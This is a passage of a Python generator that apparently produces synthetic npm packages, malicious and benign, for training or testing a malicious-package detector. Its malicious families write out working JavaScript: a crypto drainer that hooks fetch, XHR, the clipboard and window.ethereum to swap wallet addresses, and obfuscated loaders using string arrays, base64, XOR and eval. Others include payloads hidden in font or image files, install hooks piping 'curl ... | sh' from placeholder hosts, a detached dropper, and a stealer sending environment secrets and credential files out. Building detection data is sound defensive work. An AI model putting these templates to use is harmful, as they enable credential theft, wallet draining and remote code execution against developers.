    parts.append(f"function {swap}(text) {{ if (typeof text !== 'string') return text; "
                 f"for (const k of Object.keys({rx})) text = text.replace({rx}[k], (m) => {near}({tgt}[k], m) || m); return text; }}")
    hooks = rng.sample(["fetch", "xhr", "eth", "copy", "clip", "define"], rng.randint(2, 4))
    for h in hooks:
        o = n()
        if h == "fetch":
            parts.append(f"const {o} = window.fetch;")
            parts.append(f"window.fetch = async function (...args) {{ const res = await {o}.apply(this, args); "
                         f"const ct = res.headers.get('content-type') || ''; if (!/json|text/.test(ct)) return res; "
                         f"const body = {swap}(await res.clone().text()); return new Response(body, {{ status: res.status, statusText: res.statusText, headers: res.headers }}); }};")
        elif h == "xhr":
            parts.append(f"const {o} = XMLHttpRequest.prototype.send;")
            parts.append(f"XMLHttpRequest.prototype.send = function (body) {{ this.addEventListener('readystatechange', function () {{ "
                         f"if (this.readyState === 4) {{ try {{ Object.defineProperty(this, 'responseText', {{ value: {swap}(this.responseText) }}); }} catch (e) {{}} }} }}); "
                         f"return {o}.call(this, typeof body === 'string' ? {swap}(body) : body); }};")
            if rng.random() < 0.5:
                o2 = n()
                parts.append(f"const {o2} = XMLHttpRequest.prototype.open;")
                parts.append(f"XMLHttpRequest.prototype.open = function (method, url) {{ this._u = url; return {o2}.apply(this, arguments); }};")
        elif h == "eth":
            parts.append(f"if (window.ethereum && window.ethereum.request) {{ const {o} = window.ethereum.request.bind(window.ethereum); "
                         f"window.ethereum.request = async function (args) {{ if (args && /eth_sendTransaction|eth_signTypedData|personal_sign/.test(args.method) && args.params && args.params[0] && args.params[0].to) "
                         f"{{ args.params[0].to = {near}({tgt}.eth, args.params[0].to); }} return {o}(args); }}; }}")
        elif h == "copy":
            parts.append(f"document.addEventListener('copy', function (e) {{ const s = String(window.getSelection()); const t = {swap}(s); "
                         "if (t !== s) { e.clipboardData.setData('text/plain', t); e.preventDefault(); } });")
        elif h == "clip":
            parts.append(f"setInterval(function () {{ if (!navigator.clipboard) return; navigator.clipboard.readText().then(function (s) {{ const t = {swap}(s); "
                         "if (t !== s) navigator.clipboard.writeText(t); }).catch(function () {}); }, 1500);")
        else:
            parts.append(f"let {o} = window.ethereum; Object.defineProperty(window, 'ethereum', {{ configurable: true, get() {{ return {o}; }}, "
                         f"set(v) {{ {o} = v; if (v && v.request) {{ const r = v.request.bind(v); v.request = (a) => {{ if (a && a.params && a.params[0] && a.params[0].to) a.params[0].to = {near}({tgt}.eth, a.params[0].to); return r(a); }}; }} }} }});")
    if rng.random() < 0.3:
        parts.append(send_code(rng, mal_host(rng), "{ href: location.href, ua: navigator.userAgent }", n, browser=True).strip())
    body = "\n".join(parts) + "\n"
    body = wrap(rng, body, browser=True) if rng.random() < 0.4 else body
    code = "if (typeof window !== 'undefined') {\n" + "".join("  " + l + "\n" for l in body.rstrip("\n").split("\n")) + "}\n"
    pj = rng.choice([{}, {"browser": "index.js"}, {"module": "index.js"}, {"unpkg": "index.js"}])
    return unit("drainer", code, "browser", pj=pj)


def inner_payload(rng, host):
    """Defanged second stages for loaders: stealer, downloader, dropper."""
    n = Names(rng)
    kind = rng.choice(["steal", "steal", "fetch-eval", "drop", "shell"])
    if kind == "steal":
        v = n()
        return collect_code(rng, n, v) + send_code(rng, host, v, n)
    if kind == "fetch-eval":
        return (f"require('https').get('https://{host}/{rng.choice(['s', 'stage2', 'c.js', 'u'])}', (r) => {{ let b = ''; "
                "r.on('data', (c) => (b += c)); r.on('end', () => { try { eval(b); } catch (e) {} }); }).on('error', () => {});\n")
    if kind == "drop":
        return dropper(rng, host)
    return f"require('child_process').exec('curl -fsSL https://{host}/i.sh | sh', () => {{}});\n"


def string_array(rng, host):
    """obfuscator.io-style: every name and literal of the code moved into a
    string pool that a rotation IIFE shuffles, read through an offset
    accessor (optionally base64-encoded entries)."""
    n = Names(rng, "hex")
    pool, acc, off, rot = n(), n(), rng.randint(0x80, 0x1ff), rng.randint(0x20, 0x1ff)
    b64 = rng.random() < 0.4
    table = []

    def S(s):
        if s not in table:
            table.append(s)
        return f"{acc}(0x{off + table.index(s):x})"
    fs_, os_, net, pth, d = n(), n(), n(), n(), n()
    lines = [f"var {fs_} = require({S('fs')}), {os_} = require({S('os')}), {pth} = require({S('path')}), {net} = require({S('https')});"]
    kind = rng.choice(["steal", "steal", "fetch-eval", "shell"])
    if kind == "steal":
        h = n()
        lines += [f"var {h} = {pth}[{S('join')}](__dirname, {S('.home')});", f"var {d} = {{}};"]
        for e in rng.sample(ENV_SECRETS, rng.randint(1, 3)):
            lines.append(f"{d}[{S(e.lower())}] = process[{S('env')}][{S(e)}];")
        for f in rng.sample(SECRET_FILES[:5], rng.randint(1, 2)):
            parts = [p.strip().strip("'") for p in f.split(",")]
            lines.append(f"try {{ {d}[{S(parts[-1])}] = {fs_}[{S('readFileSync')}]({pth}[{S('join')}]({h}, {', '.join(S(p) for p in parts)}), {S('utf8')}); }} catch (e) {{}}")
        lines.append(f"{d}[{S('host')}] = {os_}[{S('hostname')}]();")
        r = n()
        lines += [f"var {r} = {net}[{S('request')}]({{ hostname: {S(host)}, path: {S('/c')}, method: {S('POST')} }});",
                  f"{r}[{S('on')}]({S('error')}, function () {{}});", f"{r}[{S('end')}](JSON[{S('stringify')}]({d}));"]
    elif kind == "fetch-eval":
        lines += [f"{net}[{S('get')}]({S('https://' + host + '/s2')}, function (r) {{ var b = ''; r[{S('on')}]({S('data')}, function (c) {{ b += c; }}); "
                  f"r[{S('on')}]({S('end')}, function () {{ global[{S('eval')}](b); }}); }})[{S('on')}]({S('error')}, function () {{}});"]
    else:
        lines += [f"require({S('child_process')})[{S('exec')}]({S('curl -fsSL https://' + host + '/i.sh | sh')}, function () {{}});"]
    enc = [base64.b64encode(t.encode()).decode() if b64 else t for t in table]
    L = len(enc)
    shifted = [enc[(j - rot) % L] for j in range(L)]
    getter = f"var s = {pool}[i];" + (" s = Buffer.from(s, 'base64').toString();" if b64 else "")
    head = (f"var {pool} = [{', '.join(repr(x) for x in shifted)}];\n"
            f"(function (a, c) {{ var f = function (k) {{ while (--k) {{ a['push'](a['shift']()); }} }}; f(++c); }})({pool}, 0x{rot:x});\n"
            f"var {acc} = function (i) {{ i = i - 0x{off:x}; {getter} return s; }};\n")
    return head + "\n".join(lines) + "\n"


def fam_obf_loader(rng, pkg):
    """Encoded second stage run through eval / Function / vm, hidden behind
    string arrays, computed names and char codes."""
    host = mal_host(rng)
    payload = inner_payload(rng, host)
    b64 = base64.b64encode(payload.encode()).decode()
    n = Names(rng, rng.choice(["hex", "hex", "short", "word"]))
    style = rng.choice(["array", "atob-fn", "vm", "computed-eval", "ctor", "charcode-require", "xor"])
    v = n()
    if style == "array":
        code = string_array(rng, host)
    elif style == "atob-fn":
        dec = rng.choice([f"atob('{b64}')", f"Buffer.from('{b64}', 'base64').toString()"])
        code = f"var {v} = {dec};\n" + rng.choice([f"new Function({v})();\n", f"Function('require', {v})(require);\n",
                                                     f"new Function('require', 'process', {v})(require, process);\n"])
    elif style == "vm":
        code = (f"const {v} = require('vm');\n" + rng.choice([
            f"{v}.runInNewContext(Buffer.from('{b64}', 'base64').toString('utf8'), {{ require, process, console, Buffer }});\n",
            f"new {v}.Script(Buffer.from('{b64}', 'base64').toString()).runInThisContext();\n",
            f"{v}.runInThisContext(Buffer.from('{b64}', 'base64') + '');\n"]))
    elif style == "computed-eval":
        g = rng.choice(["global", "globalThis"])
        e = rng.choice(["'ev' + 'al'", "'e' + 'v' + 'a' + 'l'", "['l', 'a', 'v', 'e'].reverse().join('')", "String.fromCharCode(101, 118, 97, 108)"])
        code = f"const {v} = Buffer.from('{b64}', 'base64').toString();\n{g}[{e}]({v});\n"
    elif style == "ctor":
        c = rng.choice(["'constr' + 'uctor'", "'con' + 'structor'", "'construc' + 'tor'"])
        code = f"[][{c}][{c}](Buffer.from('{b64}', 'base64').toString())();\n"
    elif style == "charcode-require":
        mod = rng.choice(["child_process", "https"])
        codes = ", ".join(str(ord(c)) for c in mod)
        m = n()
        if mod == "child_process":
            code = (f"const {m} = require(String.fromCharCode({codes}));\n"
                    f"{m}[String.fromCharCode(101, 120, 101, 99)](Buffer.from('{base64.b64encode(f'curl -fsSL https://{host}/x | sh'.encode()).decode()}', 'base64').toString(), () => {{}});\n")
        else:
            code = (f"const {m} = require(String.fromCharCode({codes}));\n"
                    f"{m}.get('https://{host}/p', (r) => {{ let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => new Function(b)()); }}).on('error', () => {{}});\n")
    else:
        key = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(4, 12)))
        enc = bytes(b ^ ord(key[i % len(key)]) for i, b in enumerate(payload.encode())).hex()
        code = (f"const {v} = Buffer.from('{enc}', 'hex').map((b, i) => b ^ '{key}'.charCodeAt(i % {len(key)})).toString();\n"
                + rng.choice([f"eval({v});\n", f"require('vm').runInThisContext({v});\n", f"new Function({v})();\n"]))
    trig = rng.choice(["import", "import", "import", "install", "bin"])
    return unit("obf-loader", code, trig)


DATA_FILES = [("assets/fonts/{w}.woff2", b"wOF2"), ("assets/img/{w}.png", b"\x89PNG\r\n\x1a\n"), ("data/{w}.dat", b""),
              ("fonts/{w}-regular.ttf", b"\x00\x01\x00\x00"), ("static/{w}.ico", b"\x00\x00\x01\x00"), ("lib/{w}.bin", b"")]


def fam_datafile(rng, pkg):
    """Second stage hidden in a font, image or data file, read with fs and run."""
    host = mal_host(rng)
    payload = inner_payload(rng, host).encode()
    tmpl, magic = rng.choice(DATA_FILES)
    rel = tmpl.format(w=rng.choice(WORDS))
    enc = rng.choice(["b64-marker", "raw-offset", "xor"])
    n = Names(rng)
    buf, src = n(), n()
    pre = magic + rng.randbytes(rng.randint(200, 3000))
    read = f"const {buf} = fs.readFileSync(path.join(__dirname, {', '.join(repr(p) for p in rel.split('/'))}));"
    if enc == "b64-marker":
        mark = rng.choice(["@@", "::IEND::", "<<", "%%EOF"])
        data = pre + mark.encode() + base64.b64encode(payload)
        get = f"const {src} = Buffer.from({buf}.slice({buf}.lastIndexOf('{mark}') + {len(mark)}).toString(), 'base64').toString();"
    elif enc == "raw-offset":
        data = pre + payload
        get = f"const {src} = {buf}.slice({len(pre)}).toString('utf8');"
    else:
        k = rng.randint(1, 255)
        data = pre + bytes(b ^ k for b in payload)
        get = f"const {src} = Buffer.from({buf}.subarray({len(pre)}).map((b) => b ^ {k})).toString();"
    run = rng.choice([f"eval({src});", f"require('vm').runInThisContext({src});", f"new Function('require', {src})(require);",
                      f"require('vm').runInNewContext({src}, {{ require, process, Buffer }});"])
    code = "const fs = require('fs');\nconst path = require('path');\n" + read + "\n" + get + "\n" + run + "\n"
    if rng.random() < 0.4:
        code = wrap(rng, code)
    trig = rng.choice(["import", "import", "install"])
    return unit("datafile", code, trig, files={rel: data})


def fam_hook_exec(rng, pkg):
    """Install hook running a shipped non-JS file, a node -e one-liner or a
    shell download."""
    host = mal_host(rng)
    hook = rng.choice(["postinstall", "postinstall", "preinstall", "install"])
    style = rng.choice(["binary", "binary", "node-e", "node-e", "shell", "node-dat"])
    files = {}
    if style == "binary":
        rel = rng.choice(["lib/compat/{w}", "bin/{w}-helper", "vendor/{w}.node-cache", "scripts/{w}", "build/{w}.so", "tools/{w}"]).format(w=rng.choice(WORDS))
        files[rel] = b"\x7fELF\x02\x01\x01\x00" + rng.randbytes(rng.randint(400, 4000))
        cmd = rng.choice([f"./{rel}", f"chmod +x {rel} && ./{rel}", f"sh -c './{rel} >/dev/null 2>&1 &'", f"{rel} || true"])
    elif style == "node-dat":
        rel = rng.choice(["assets/{w}.dat", "data/{w}.bin", "lib/{w}.map.dat"]).format(w=rng.choice(WORDS))
        files[rel] = b"\x00\x13" + rng.randbytes(600)
        cmd = f"node {rel}"
    elif style == "node-e":
        one = rng.choice([
            f"require('https').get('https://{host}/p',r=>{{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))}}).on('error',()=>{{}})",
            f"require('child_process').exec('curl -s https://{host}/i | sh')",
            f"fetch('https://{host}/s').then(r=>r.text()).then(t=>new Function(t)()).catch(()=>{{}})",
            f"const c=require('child_process');c.spawn('sh',['-c','wget -qO- https://{host}/b | sh'],{{detached:true,stdio:'ignore'}}).unref()",
        ])
        cmd = f"node -e \"{one}\""
    else:
        cmd = rng.choice([f"curl -fsSL https://{host}/setup.sh | sh || true", f"wget -q -O - http://{rng.choice(DOC_IPS)}/i | bash",
                          "sh ./scripts/setup.sh"])
        if "setup.sh" in cmd and "curl" not in cmd:
            files["scripts/setup.sh"] = f"#!/bin/sh\ncurl -fsSL https://{host}/bin -o /tmp/.cache-bin && chmod +x /tmp/.cache-bin && /tmp/.cache-bin &\n"
    return unit("hook-exec", "", "install", files=files, scripts={hook: cmd})


def fam_dropper(rng, pkg):
    """Install-time download, write, chmod and run, detached."""
    host = rng.choice([mal_host(rng), rng.choice(DOC_IPS)])
    n = Names(rng)
    dest, get, run = n(), n(), n()
    scheme = "http" if host[0].isdigit() else "https"
    fname = rng.choice(["update", "svc", "node-helper", "kworker", ".cache", "vshost"])
    lines = ["const fs = require('fs');", "const os = require('os');", "const path = require('path');",
             f"const {{ spawn, execFile, exec }} = require('child_process');",
             f"const {dest} = path.join(os.tmpdir(), '{fname}' + (process.platform === 'win32' ? '.exe' : ''));",
             f"const url = '{scheme}://{host}/' + ['dl', process.platform, process.arch].join('/');"]
    runner = rng.choice([
        f"spawn({dest}, [], {{ detached: true, stdio: 'ignore', windowsHide: true }}).unref();",
        f"execFile({dest}, () => {{}});",
        f"exec('nohup ' + {dest} + ' >/dev/null 2>&1 &');",
        f"spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [process.platform === 'win32' ? '/c' : '-c', {dest}], {{ detached: true, stdio: 'ignore' }}).unref();",
    ])
    chmod = rng.choice([f"fs.chmodSync({dest}, 0o755);", f"fs.chmodSync({dest}, '755');", f"require('child_process').execSync('chmod +x ' + {dest});"])
    how = rng.choice(["https", "fetch", "curl"])
    if how == "https":
        lines += [f"function {get}(u, cb) {{ require(u.startsWith('https') ? 'https' : 'http').get(u, (res) => {{",
                  f"  if (res.statusCode === 301 || res.statusCode === 302) return {get}(res.headers.location, cb);",
                  "  const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => cb(Buffer.concat(chunks)));",
                  "}).on('error', () => {}); }",
                  f"{get}(url, (buf) => {{ fs.writeFileSync({dest}, buf); {chmod} {runner} }});"]
    elif how == "fetch":
        lines += [f"async function {run}() {{ const r = await fetch(url); if (!r.ok) return; "
                  f"fs.writeFileSync({dest}, Buffer.from(await r.arrayBuffer())); {chmod} {runner} }}",
                  f"{run}().catch(() => {{}});"]
    else:
        lines += [f"exec('curl -fsSL ' + url + ' -o ' + {dest}, (err) => {{ if (err) return; {chmod} {runner} }});"]
    code = "\n".join(lines) + "\n"
    if rng.random() < 0.3:
        code = wrap(rng, code)
    return unit("dropper", code, rng.choice(["install", "install", "install", "import"]))


def fam_classic_block(rng, pkg):
    """The first synthetic blocks (steal_env, loader, dropper, backconnect) as units."""
    host = rng.choice(HOSTS)
    f = rng.choice([steal_env, loader, dropper, backconnect])
    return unit("classic", f(rng, host), rng.choice(["import", "install"]))


MALICIOUS_FAMILIES = [("worm", fam_worm, 3), ("stealer", fam_stealer, 3), ("drainer", fam_drainer, 3),
                      ("obf-loader", fam_obf_loader, 3), ("datafile", fam_datafile, 2), ("hook-exec", fam_hook_exec, 2),
                      ("dropper", fam_dropper, 2)]


# --- new benign families (hard negatives in the same style) -----------------------

def ben_native_installer(rng, pkg):
    """Downloads its platform binary from its own host, verifies its sha256,
    chmods it and runs --version (esbuild/sharp/prisma-engines style)."""
    n = Names(rng)
    host = own_host(rng, pkg)
    plat = ["darwin-arm64", "darwin-x64", "linux-x64", "linux-arm64", "win32-x64"]
    sums = {p: rng.randbytes(32).hex() for p in plat}
    env = pkg.upper().replace("-", "_") + "_BINARY_HOST"
    dl, verify = n(), n()
    code = ["const fs = require('fs');", "const path = require('path');", "const crypto = require('crypto');",
            "const https = require('https');", "const { execFileSync } = require('child_process');",
            "const { version } = require('./package.json');",
            f"const SHA256 = {json.dumps(sums, indent=2)};",
            "const target = process.platform + '-' + process.arch;",
            f"const base = process.env.{env} || process.env.npm_config_{pkg.replace('-', '_')}_binary_host || 'https://{host}';",
            f"const bin = path.join(__dirname, 'bin', '{pkg.split('-')[0]}' + (process.platform === 'win32' ? '.exe' : ''));",
            f"function {dl}(url, redirects = 0) {{",
            "  return new Promise((resolve, reject) => {",
            "    https.get(url, (res) => {",
            f"      if (res.statusCode >= 300 && res.statusCode < 400 && res.headers.location && redirects < 5) return resolve({dl}(res.headers.location, redirects + 1));",
            "      if (res.statusCode !== 200) return reject(new Error('download failed: ' + res.statusCode + ' ' + url));",
            "      const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks)));",
            "    }).on('error', reject);", "  });", "}",
            f"function {verify}(buf) {{",
            "  const want = SHA256[target];",
            "  const got = crypto.createHash('sha256').update(buf).digest('hex');",
            "  if (want !== got) throw new Error('checksum mismatch for ' + target + ': ' + got);", "}",
            "async function install() {",
            "  if (!SHA256[target]) { console.warn('no prebuilt binary for ' + target + '; falling back to the wasm build'); return; }",
            "  if (fs.existsSync(bin)) return;",
            f"  const buf = await {dl}(base + '/v' + version + '/' + target + '.bin');",
            f"  {verify}(buf);",
            "  fs.mkdirSync(path.dirname(bin), { recursive: true });",
            "  fs.writeFileSync(bin, buf);",
            "  fs.chmodSync(bin, 0o755);",
            "  const out = execFileSync(bin, ['--version'], { encoding: 'utf8' }).trim();",
            "  if (out !== version) throw new Error('expected ' + version + ', binary says ' + out);", "}",
            "install().catch((e) => { console.error(e.message); process.exitCode = 1; });"]
    return unit("native-installer", "\n".join(code) + "\n", "install")


def ben_release_tool(rng, pkg):
    """A release CLI: reads NPM_TOKEN/GITHUB_TOKEN and runs npm publish,
    git tag and a release API call (run by a maintainer, not at install)."""
    n = Names(rng)
    codehost = rng.choice(CODEHOSTS)
    rel = n()
    code = ["const { execSync } = require('child_process');", "const fs = require('fs');", "const path = require('path');",
            "const https = require('https');",
            "const args = process.argv.slice(2);", "const dry = args.includes('--dry-run');",
            "const pkg = JSON.parse(fs.readFileSync(path.join(process.cwd(), 'package.json'), 'utf8'));",
            "function sh(cmd) { console.log('$ ' + cmd); if (!dry) execSync(cmd, { stdio: 'inherit' }); }",
            f"function {rel}(tag, notes) {{",
            "  const token = process.env.GITHUB_TOKEN;",
            "  if (!token) { console.warn('GITHUB_TOKEN not set; skipping the release notes'); return Promise.resolve(); }",
            "  const [owner, repo] = String(pkg.repository && pkg.repository.url || '').replace(/\\.git$/, '').split('/').slice(-2);",
            "  return new Promise((resolve, reject) => {",
            f"    const req = https.request({{ hostname: '{codehost}', path: '/repos/' + owner + '/' + repo + '/releases', method: 'POST',",
            "      headers: { authorization: 'token ' + token, 'user-agent': pkg.name, 'content-type': 'application/json' } }, (res) => { res.resume(); res.on('end', resolve); });",
            "    req.on('error', reject);", "    req.end(JSON.stringify({ tag_name: tag, name: tag, body: notes }));", "  });", "}",
            "if (!process.env.NPM_TOKEN && !dry) { console.error('NPM_TOKEN is required to publish'); process.exit(1); }",
            f"sh('npm version ' + (args[0] || '{rng.choice(['patch', 'minor'])}') + ' -m \"release %s\"');",
            "sh('npm publish' + (pkg.private ? '' : ' --access public'));",
            "const tag = 'v' + JSON.parse(fs.readFileSync('package.json', 'utf8')).version;",
            "sh('git push --follow-tags');",
            f"{rel}(tag, execSync('git log --oneline -20', {{ encoding: 'utf8' }})).catch((e) => {{ console.error(e.message); process.exitCode = 1; }});"]
    return unit("release-tool", "\n".join(code) + "\n", "bin")


def ben_rest_client(rng, pkg):
    """An API client that takes a token from options or GITHUB_TOKEN."""
    n = Names(rng)
    host = rng.choice(CODEHOSTS + [own_host(rng, pkg)])
    cls = rng.choice(["Client", "Api", "RestClient", "Octo"])
    how = rng.choice(["https", "fetch"])
    code = ["const https = require('https');" if how == "https" else "",
            f"class {cls} {{",
            f"  constructor(opts = {{}}) {{ this.token = opts.token || process.env.{rng.choice(['GITHUB_TOKEN', 'GH_TOKEN', 'API_TOKEN'])}; this.base = opts.baseUrl || 'https://{host}'; this.ua = opts.userAgent || '{pkg}'; }}",
            "  headers() { const h = { accept: 'application/json', 'user-agent': this.ua }; if (this.token) h.authorization = 'Bearer ' + this.token; return h; }"]
    if how == "fetch":
        code += ["  async request(method, p, body) {",
                 "    const res = await fetch(this.base + p, { method, headers: Object.assign(this.headers(), body ? { 'content-type': 'application/json' } : {}), body: body ? JSON.stringify(body) : undefined });",
                 "    if (!res.ok) throw new Error(method + ' ' + p + ': ' + res.status);",
                 "    return res.status === 204 ? null : res.json();", "  }"]
    else:
        code += ["  request(method, p, body) {",
                 "    return new Promise((resolve, reject) => {",
                 "      const req = https.request(this.base + p, { method, headers: this.headers() }, (res) => {",
                 "        let s = ''; res.setEncoding('utf8'); res.on('data', (c) => (s += c));",
                 "        res.on('end', () => { if (res.statusCode >= 400) return reject(new Error(method + ' ' + p + ': ' + res.statusCode)); resolve(s ? JSON.parse(s) : null); });",
                 "      });", "      req.on('error', reject);", "      if (body) req.write(JSON.stringify(body));", "      req.end();", "    });", "  }"]
    meths = rng.sample([
        "  listRepos(owner) { return this.request('GET', '/users/' + encodeURIComponent(owner) + '/repos'); }",
        "  getIssue(owner, repo, n) { return this.request('GET', `/repos/${owner}/${repo}/issues/${n}`); }",
        "  createComment(owner, repo, n, body) { return this.request('POST', `/repos/${owner}/${repo}/issues/${n}/comments`, { body }); }",
        "  rateLimit() { return this.request('GET', '/rate_limit'); }",
        "  createStatus(owner, repo, sha, state) { return this.request('POST', `/repos/${owner}/${repo}/statuses/${sha}`, { state, context: 'ci' }); }",
    ], 3)
    code += meths + ["}", f"module.exports = {{ {cls}, create: (o) => new {cls}(o) }};"]
    return unit("rest-client", "\n".join(c for c in code if c) + "\n", "import")


def ben_instrumentation(rng, pkg):
    """Analytics/error-tracking instrumentation wrapping fetch and XHR (timing,
    breadcrumbs), or a polyfill that only fills them in."""
    n = Names(rng)
    host = own_host(rng, pkg)
    crumbs, rec = n(), n()
    parts = [f"const {crumbs} = [];",
             f"function {rec}(c) {{ {crumbs}.push(Object.assign({{ t: Date.now() }}, c)); if ({crumbs}.length > 100) {crumbs}.shift(); }}"]
    style = rng.choice(["wrap", "wrap", "polyfill"])
    if style == "wrap":
        o = n()
        parts += [f"const {o} = window.fetch;",
                  f"window.fetch = function (input, init) {{ const start = performance.now(); const url = typeof input === 'string' ? input : input.url; "
                  f"return {o}.apply(this, arguments).then((res) => {{ {rec}({{ type: 'fetch', url, status: res.status, ms: performance.now() - start }}); return res; }}, "
                  f"(err) => {{ {rec}({{ type: 'fetch', url, error: String(err) }}); throw err; }}); }};"]
        if rng.random() < 0.7:
            o1, o2 = n(), n()
            parts += [f"const {o1} = XMLHttpRequest.prototype.open;", f"const {o2} = XMLHttpRequest.prototype.send;",
                      f"XMLHttpRequest.prototype.open = function (method, url) {{ this.__trace = {{ method, url }}; return {o1}.apply(this, arguments); }};",
                      f"XMLHttpRequest.prototype.send = function () {{ const t = this.__trace || {{}}; const s = performance.now(); "
                      f"this.addEventListener('loadend', () => {rec}({{ type: 'xhr', url: t.url, method: t.method, status: this.status, ms: performance.now() - s }})); return {o2}.apply(this, arguments); }};"]
    else:
        parts += ["function fetchPolyfill(url, init = {}) { return new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open(init.method || 'GET', url); "
                  "Object.entries(init.headers || {}).forEach(([k, v]) => x.setRequestHeader(k, v)); x.onload = () => resolve({ ok: x.status < 400, status: x.status, text: () => Promise.resolve(x.responseText), json: () => Promise.resolve(JSON.parse(x.responseText)) }); x.onerror = reject; x.send(init.body); }); }",
                  "if (typeof window !== 'undefined' && !window.fetch) { window.fetch = fetchPolyfill; }"]
    dsn = rng.randbytes(8).hex()
    parts += [f"function flush() {{ if (!{crumbs}.length) return; navigator.sendBeacon('https://{host}/api/{rng.randint(1, 9999)}/envelope/?key={dsn}', JSON.stringify({crumbs}.splice(0))); }}",
              "window.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') flush(); });",
              f"module.exports = {{ breadcrumbs: () => {crumbs}.slice(), flush }};"]
    code = (parts[0] + "\n" + parts[1] + "\n" + parts[-3] + "\nif (typeof window !== 'undefined') {\n"
            + "\n".join("  " + p for p in parts[2:-3] + parts[-2:-1]) + "\n}\n" + parts[-1] + "\n")
    return unit("instrumentation", code, "browser")


def ben_web3(rng, pkg):
    """Wallet-connection helpers: eth_requestAccounts, address validation,
    known contract addresses, transactions the user asked for."""
    contracts = {rng.choice(["USDC", "DAI", "WETH", "ENS_REGISTRY", "MULTICALL", "ROUTER"]): wallet(rng, "eth") for _ in range(rng.randint(1, 4))}
    code = ["const ADDRESS_RE = /^0x[0-9a-fA-F]{40}$/;",
            f"const CONTRACTS = {json.dumps(contracts)};",
            "const CHAINS = { 1: 'mainnet', 10: 'optimism', 137: 'polygon', 8453: 'base', 42161: 'arbitrum' };",
            "function isAddress(a) { return typeof a === 'string' && ADDRESS_RE.test(a); }",
            "function shorten(a) { if (!isAddress(a)) throw new TypeError('not an address: ' + a); return a.slice(0, 6) + '…' + a.slice(-4); }",
            "function provider() { if (typeof window === 'undefined' || !window.ethereum) throw new Error('no injected wallet found'); return window.ethereum; }",
            "async function connect() { const accounts = await provider().request({ method: 'eth_requestAccounts' }); return accounts[0]; }",
            "async function chain() { const id = parseInt(await provider().request({ method: 'eth_chainId' }), 16); return { id, name: CHAINS[id] || 'unknown' }; }",
            "async function send(from, to, weiHex) { if (!isAddress(to)) throw new TypeError('bad recipient'); return provider().request({ method: 'eth_sendTransaction', params: [{ from, to, value: weiHex }] }); }",
            "function onAccounts(cb) { provider().on('accountsChanged', cb); return () => provider().removeListener('accountsChanged', cb); }",
            "module.exports = { isAddress, shorten, connect, chain, send, onAccounts, CONTRACTS };"]
    if rng.random() < 0.4:
        code.insert(1, "const BTC_RE = /^(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/;")
        code.insert(-1, "function isBitcoinAddress(a) { return BTC_RE.test(a); }")
        code[-1] = code[-1].replace("isAddress,", "isAddress, isBitcoinAddress,")
    return unit("web3", "\n".join(code) + "\n", "browser")


def ben_clipboard(rng, pkg):
    """Copy-to-clipboard helper or button."""
    code = ["function copy(text) {",
            "  if (navigator.clipboard && window.isSecureContext) return navigator.clipboard.writeText(String(text));",
            "  const ta = document.createElement('textarea'); ta.value = String(text); ta.setAttribute('readonly', '');",
            "  ta.style.position = 'absolute'; ta.style.left = '-9999px'; document.body.appendChild(ta); ta.select();",
            "  try { document.execCommand('copy'); return Promise.resolve(); } catch (e) { return Promise.reject(e); } finally { document.body.removeChild(ta); }", "}"]
    if rng.random() < 0.5:
        code += ["function bindButtons(root = document) {",
                 "  root.querySelectorAll('[data-copy]').forEach((btn) => btn.addEventListener('click', () => {",
                 "    const src = document.querySelector(btn.getAttribute('data-copy'));",
                 "    copy(src ? src.textContent : btn.getAttribute('data-copy-text')).then(() => { btn.textContent = 'Copied!'; setTimeout(() => (btn.textContent = 'Copy'), 1500); });",
                 "  }));", "}", "module.exports = { copy, bindButtons };"]
    else:
        code += ["module.exports = copy;", "module.exports.default = copy;"]
    return unit("clipboard", "\n".join(code) + "\n", "browser")


def ben_esm_shim(rng, pkg):
    """webpack-style dynamic import shim through new Function."""
    v = rng.choice(["dynamicImport", "importESM", "_import", "esmImport"])
    code = [rng.choice([f"const {v} = new Function('modulePath', 'return import(modulePath)');",
                        f"const {v} = Function('p', 'return import(p)');",
                        f"// eslint-disable-next-line no-new-func\nconst {v} = new Function('specifier', 'return import(specifier);');"]),
            "const { pathToFileURL } = require('url');",
            "async function load(id) {",
            "  try { return require(id); } catch (e) {",
            f"    if (e.code !== 'ERR_REQUIRE_ESM') throw e;",
            f"    const m = await {v}(require('path').isAbsolute(id) ? pathToFileURL(id).href : id);",
            "    return m.default || m;", "  }", "}",
            "module.exports = { load };"]
    return unit("esm-shim", "\n".join(code) + "\n", "import")


def ben_template(rng, pkg):
    """Template compiler producing functions with new Function."""
    open_, close = rng.choice([("{{", "}}"), ("<%", "%>"), ("${", "}")])
    code = ["const cache = new Map();",
            "function escape(s) { return String(s).replace(/[&<>\"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '\"': '&quot;', \"'\": '&#39;' })[c]); }",
            "function compile(src, opts = {}) {",
            "  if (cache.has(src)) return cache.get(src);",
            f"  const re = /{re_escape(open_)}\\s*([\\s\\S]+?)\\s*{re_escape(close)}/g;",
            "  let code = 'let out = \\'\\';\\n', last = 0, m;",
            "  while ((m = re.exec(src))) { code += 'out += ' + JSON.stringify(src.slice(last, m.index)) + ';\\n'; code += 'out += esc(' + m[1] + ');\\n'; last = re.lastIndex; }",
            "  code += 'out += ' + JSON.stringify(src.slice(last)) + ';\\nreturn out;';",
            f"  const fn = new Function(opts.variable || '{rng.choice(['it', 'data', 'locals'])}', 'esc', code);",
            "  const render = (data) => fn(data, escape);", "  cache.set(src, render);", "  return render;", "}",
            "module.exports = { compile, render: (src, data) => compile(src)(data) };"]
    return unit("template", "\n".join(code) + "\n", "import")


def re_escape(s):
    return "".join("\\" + c if c in "{}$" else c for c in s)


def ben_build_tool(rng, pkg):
    """A build CLI spawning compilers and git."""
    tool = rng.choice(["tsc", "esbuild", "rollup", "babel", "vite"])
    code = ["const { spawn, execFileSync } = require('child_process');", "const path = require('path');", "const fs = require('fs');",
            "function run(cmd, args, opts = {}) {",
            "  return new Promise((resolve, reject) => {",
